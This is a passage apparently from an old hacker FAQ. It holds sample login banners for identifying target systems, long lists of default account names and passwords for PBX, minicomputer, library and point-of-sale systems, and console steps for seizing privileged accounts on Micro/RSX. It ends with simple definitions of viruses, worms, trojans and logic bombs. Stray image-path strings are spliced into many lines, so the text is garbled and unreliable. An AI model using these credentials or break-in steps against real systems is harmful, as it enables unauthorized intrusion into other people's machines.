                        MMM  MMMMM  MMM     MMMMM     MMMMM
                      MMM   MMM   MMM     MMMMMM   MMMMMM
                     MMM         MMM     MMM MMM MMM MMM
                    MMM         MMM     MMM  MMMMM  MMM
                   MMM         MMM     MMM   MMM   MMM
                  MMM         MMM     MMM         MMM
                 MMM         MMM     MMM         MMM
                MMM         MMM     MMM         MMM
               MMM         MMM     MMM         MMMMMM         MMM     MMM         MMM

                                          Copyright (c) Northern
Telecom, 1991

Novell ONLAN
<Control-A aka smiley face>N

[To access the systems it is best to own a copy of ONLAN/PC]<Control-A aka smiley face>P

[To access the systems it is best to own a copy of PCAnywhere Remote]


<any text>



Primenet V 2.3  (system)
LOGIN           (you)
User id?        (system)
SAPB5           (you)
Password?       (system)
DROWSAP         (you)
OK,             (system)

ROLM CBXII  RELEASE 9004.2.34 RB295 9000D IBMHO27568
12:38:47 ON WEDNESDAY 2/15/1995




MARAUDER10292  01/09/85(^G) 1 03/10/87  00:29:47

ROLM PhoneMailROLM PhoneMail 9252 9254 Microcode Version 4.2
Copyright (C) ROLM Systems 1991
All Rights Reserved.

PM Login>
PM Password>

Login: root

Login:browse

Software Version: G3s.b16.2.2

Terminal Type (513, 4410, 4425): [513]

NIH Timesharing

NIH Tri-SMP 7.02-FF  16:30:04 TTY11
system 1378/1381/1453 Connected to Node Happy(40) Line # 12
Please LOGIN



                                          TBVM2 VM/ESA Rel 1.1     PUT

Fill in your USERID and PASSWORD and press ENTER(Your password will not appear when you type it)
USERID   ===>


Xylogics Annex Communications Server
Annex Command Line Interpreter   *   Copyright 1991 Xylogics, Inc.

Checking authorization, Please wait...      -
Annex username: TNO                          - Optional security check
Annex password:                             -  Not always present

Permission granted


A-18. What are the default accounts for XXX?

guest           guest

qsecofr         qsecofr         /* master security officer */
qsysopr         qsysopr         /* system operator         */
qpgmr           qpgmr           /* default programmer      */


ibm             password
ibm             2222ibm             service
qsecofr         1111111
qsecofr         2222222
qserv           qserv
qsvr            qsvr
secofr          secofr
qsrv            ibmce1


Dynix (The library software, not the UnixOS)
(Type 'later' to exit to the login prompt)setup           <no password>
library         <no password>
circ            <Social Security Number>

Hewlett Packard MPE-XL
HELLO           MGR.SYS
MGR             CAROLIAN
MGR             CCC
MGR             CNAS
MGR             CONV
MGR             COGNOS
MGR             HPDESK
MGR             HPWORD
FIELD           HPWORD
MGR             HPOFFICE
MAIL            HPOFFICE
WP              HPOFFICE
MGR             HPONLY
FIELD           HPP187
MGR             HPP187
MGR             HPP189
MGR             HPP196
MGR             INTX3
MGR             ITF3000
MANAGER         ITF3000
MAIL            MAIL
MGR             NETBASE
MGR             REGO
MGR             RJE
MGR             ROBELLEMGR             SECURITY
MGR             SYS
PCUSER          SYS
MAIL            TELESUP
MGR             TELESUP
SYS             TELESUP
MGE             VESOFT
MGE             VESOFT
MGR             WORD
MGR             XLSERVER

Common jobs are Pub, Sys, Data
Common passwords are HPOnly, TeleSup, HP, MPE, Manager, MGR, RemoteMajor BBS
Sysop           Sysop

Mitel PBX

root            NeXT
signa           signa
me              me or <null>

Nomadic Computing Environment (NCE) on the Tadpole Technologies
fax             <no password>

DSA             # Desquetop System Administrator

PRIME           PRIME
ADMIN           ADMIN
RJE             RJE
DEMO            DEMO
GAMES           GAMES
GUEST           GUEST
TEST            TEST
TOOLS           TOOLSCMDNC0          CMDMNC0

PBX             PBX
NETOP           <null>

Radio Shack Screen Savers

CBX Defaults

op              op
op              operator
su              super
admin           pwpeng             engineer

PhoneMail Defaults

sysadmin        sysadmin
tech            tech
poll            tech

1,1/system      (Directory [1,1] Password SYSTEM)

Default accounts for Micro/RSX:


Alternately you can hit <CTRL-Z>  when the boot sequence asks you for
the date and create an account using:

                RUN ACNT
            or  RUN $ACNT

(Numbers below 10 {oct} are privileged)

Reboot and wait for the date/time question. Type ^C and at the MCR
prompt, type "abo at." You must include the . dot!If this works, type "acs lb0:/blks=1000" to get some swap space so the
new step won't wedge.

type " run $acnt" and change the password of any account with a group
number of 7 or less.

You may find that the ^C does not work. Try ^Z and ESC as well.
Also try all 3 as terminators to valid and invalid times.If none of the above work, use the halt switch to halt the system, just
after a invalid date-time.  Look for a user mode PSW 1[4-7]xxxx. then
deposit 177777 into R6, cross your fingers, write protect the drive and
continue the system.  This will hopefully result in indirect blowing
up...  And hopefully the system has not been fully secured.

SGI Irix
4DGifts         <no password>
guest           <no password>
demos           <no password>
lp              <no password>
nuucp           <no password>
tour            <no password>
tutor           <no password>

System 75
bcim            bcimpwbciim           bciimpw
bcms            bcmspw, bcms
bcnas           bcnspw
blue            bluepw
browse          looker, browsepwcraft           crftpw, craftpw, crack
cust            custpw
enquiry         enquirypw
field           support
inads           indspw, inadspw, inads
init            initpw
kraft           kraftpw
locate          locatepw
maint           maintpw, rwmaint
nms             nmspw
rcust           rcustpw
support         supportpw
tech            field

Taco Bell
rgm             rollout
tacobell        <null>

Verifone Junior 2.05
Default password: 166816field           service
systest         utep

XON / XON Junior
Default password: 166831


A-19.  What is a trojan/worm/virus/logic bomb?

This FAQ answer was written by Theora:


Remember the Trojan Horse?  Bad guys hid inside it until they could
get into the city to do their evil deed.  A trojan computer program is
similar.  It is a program which does an unauthorized function, hidden
inside an authorized program.  It does something other than what itclaims to do, usually something malicious (although not necessarily!),
and it is intended by the author to do whatever it does.  If it's not
intentional, its called a 'bug' or, in some cases, a feature :) Some
virus scanning programs detect some trojans.  Some virus scanning
programs don't detect any trojans.  No virus scanners detect all


A virus is an independent program which reproduces itself.  It may
attach to other programs, it may create copies of itself (as in
companion viruses).  It may damage or corrupt data, change data, or
degrade the performance of your system by utilizing resources such as
memory or disk space.  Some virus scanners detect some viruses.  No
virus scanners detect all viruses.  No virus scanner can protect
against "any and all viruses, known and unknown, now and forevermore".


Made famous by Robert Morris, Jr., worms are programs which reproduce
by copying themselves over and over, system to system, using up
resources and sometimes slowing down the systems.  They are selfcontained and use the networks to spread, in much the same way viruses
use files to spread.  Some people say the solution to viruses and
worms is to just not have any files or networks.  They are probably
correct.  We would include computers.

Logic Bomb:Code which will trigger a particular form of 'attack' when a
designated condition is met.  For instance, a logic bomb could delete
all files on Dec.  5th.  Unlike a virus, a logic bomb does not make
copies of itself.


A-20.  How can I protect myself from viruses and such?

This FAQ answer was written by Theora:

The most common viruses are boot sector infectors.  You can help protect
yourself against those by write protecting all disks which you do not
need write access to.  Definitely keep a set of write protected floppy
system disks.  If you get a virus, it will make things much simpler.
